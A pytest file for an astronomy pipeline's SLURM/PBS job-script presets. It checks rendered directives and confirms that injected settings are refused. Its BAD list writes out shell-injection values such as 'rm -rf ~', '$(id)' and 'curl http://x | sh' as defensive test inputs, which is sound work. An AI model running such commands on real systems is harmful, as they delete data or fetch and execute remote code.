"""SLURM and PBS presets: the job script a `[cluster]` table renders, and the settings refused.

No batch system here: the tests render the job script of the real ``dask_jobqueue`` classes
(``--job-script`` submits nothing), check its directives and worker command, and let bash parse
it.  Values that could put a shell command into the script are refused with one line naming
the key.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from phangs_products.cli import main
from phangs_products.pipeline.hpc import ClusterConfigError, cluster_spec, load_cluster_config

PRESET = """\
[cluster]
queue = "normal"
account = "abc123"
cores = 8
memory = "128 GiB"
walltime = "24:00:00"
jobs = 5
local_directory = "/tmp"
log_directory = "/scratch/me/dask-logs"
modules = ["python/3.12"]
directives = ["--qos=long"]
"""


def _job_script(tmp_path: Path, kind: str, capsys, text: str = PRESET) -> str:
    preset = tmp_path / "hpc.toml"
    preset.write_text(text)
    # the run configurations are not read: --job-script only renders the script
    argv = ["run", "any.toml", "--cluster", kind, "--cluster-config", str(preset), "--job-script"]
    assert main(argv) == 0
    return capsys.readouterr().out


def _bash_parses(script: str) -> None:
    result = subprocess.run(["bash", "-n"], input=script, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr


def _worker_command(script: str) -> str:
    (line,) = [x for x in script.splitlines() if "distributed.cli.dask_worker" in x]
    return line


def test_slurm_preset_renders_a_job_script(tmp_path, capsys):
    script = _job_script(tmp_path, "slurm", capsys)
    directives = [x for x in script.splitlines() if x.startswith("#SBATCH")]
    for expected in (
        "#SBATCH -p normal",
        "#SBATCH -A abc123",
        "#SBATCH -n 1",
        "#SBATCH --cpus-per-task=8",
        "#SBATCH --mem=128G",
        "#SBATCH -t 24:00:00",
        "#SBATCH --qos=long",
        "#SBATCH -J phangs-products",
        "#SBATCH -e /scratch/me/dask-logs/phangs-products-%J.err",
    ):
        assert expected in directives, (expected, directives)
    assert "module load python/3.12" in script.splitlines()
    command = _worker_command(script)
    # the python running this command; 8 single-threaded workers sharing the job's memory
    assert command.startswith(f"{sys.executable} -m distributed.cli.dask_worker tcp://")
    for option in ("--nthreads 1", "--nworkers 8", "--memory-limit 16.00GiB", "--nanny"):
        assert option in command, command
    assert "--local-directory /tmp" in command
    _bash_parses(script)


def test_pbs_preset_renders_a_job_script(tmp_path, capsys):
    text = PRESET.replace('directives = ["--qos=long"]', 'directives = ["-l place=scatter"]')
    script = _job_script(tmp_path, "pbs", capsys, text)
    directives = [x for x in script.splitlines() if x.startswith("#PBS")]
    for expected in (
        "#PBS -q normal",
        "#PBS -A abc123",
        "#PBS -l select=1:ncpus=8:mem=128GB",  # PBS counts gb in units of 2**30 bytes
        "#PBS -l walltime=24:00:00",
        "#PBS -l place=scatter",
        "#PBS -N phangs-products",
    ):
        assert expected in directives, (expected, directives)
    command = _worker_command(script)
    assert command.startswith(f"{sys.executable} -m distributed.cli.dask_worker tcp://")
    assert "--nthreads 1" in command and "--nworkers 8" in command
    _bash_parses(script)


def test_the_job_script_has_no_line_a_setting_could_inject(tmp_path, capsys):
    script = _job_script(tmp_path, "slurm", capsys)
    lines = [x for x in script.splitlines() if x and not x.startswith("#")]
    assert lines == ["module load python/3.12", _worker_command(script)]


BAD = [
    ("queue", '"normal; rm -rf ~"'),
    ("queue", '"-x"'),
    ("account", '"abc$(id)"'),
    ("job_name", '"a\\nb"'),
    ("python", '"/usr/bin/python3 `id`"'),
    ("python", '"venv/bin/python"'),
    ("local_directory", '"/tmp/a b"'),
    ("log_directory", '"/scratch/x;id"'),
    ("interface", '"ib0 && id"'),
    ("modules", '["python && curl http://x | sh"]'),
    ("directives", '["--qos=long\\nid"]'),
    ("directives", '"--qos=long"'),
    ("walltime", '"1 day"'),
    ("walltime", "24"),
    ("memory", '"lots"'),
    ("memory", '"4 GiB"'),  # 0.5 GiB for each of 8 workers
    ("cores", "0"),
    ("cores", "true"),
    ("cores", '"8"'),
    ("jobs", "0"),
    ("kind", '"pbs"'),
]


@pytest.mark.parametrize(("key", "value"), BAD)
def test_a_bad_setting_is_one_line_naming_the_key(tmp_path, key, value, capsys):
    lines = [x for x in PRESET.splitlines() if not x.startswith(f"{key} =")]
    preset = tmp_path / "hpc.toml"
    preset.write_text("\n".join([*lines, f"{key} = {value}"]) + "\n")
    with pytest.raises(ClusterConfigError) as info:
        load_cluster_config(preset, "slurm")
    message = str(info.value)
    assert message.startswith(f"hpc.toml: cluster.{key}") and "\n" not in message, message
    # and the command says the same in one line, before any scheduler or job
    argv = ["run", "any.toml", "--cluster", "slurm", "--cluster-config", str(preset)]
    assert main([*argv, "--job-script"]) == 1
    err = capsys.readouterr().err
    assert err.startswith(f"error: hpc.toml: cluster.{key}") and err.count("\n") == 1, err


def test_missing_and_unknown_settings(tmp_path):
    with pytest.raises(ClusterConfigError, match=r"^x: cluster.walltime: missing"):
        cluster_spec({"cores": 4, "memory": "32 GiB"}, "slurm", "x")
    with pytest.raises(ClusterConfigError, match=r"^x: cluster.partition: unknown setting"):
        cluster_spec(
            {"cores": 4, "memory": "32 GiB", "walltime": "1:00:00", "partition": "a"}, "pbs", "x"
        )
    preset = tmp_path / "hpc.toml"
    preset.write_text("[run]\n")
    with pytest.raises(ClusterConfigError, match=r"^hpc.toml: cluster: missing"):
        load_cluster_config(preset, "slurm")


def test_jobs_for_a_number_of_fields():
    spec = cluster_spec(
        {"cores": 8, "memory": "128 GiB", "walltime": "24:00:00", "jobs": 3}, "slurm"
    )
    assert [spec.jobs_for(n) for n in (1, 8, 9, 38)] == [1, 1, 2, 3]
    assert spec.memory_per_worker == 16 * 2**30


def test_cluster_options_need_each_other(tmp_path, capsys):
    assert main(["run", "any.toml", "--cluster", "slurm"]) == 1
    assert "needs --cluster-config" in capsys.readouterr().err
    assert main(["run", "any.toml", "--cluster-config", str(tmp_path / "x.toml")]) == 1
    assert "need --cluster slurm|pbs" in capsys.readouterr().err
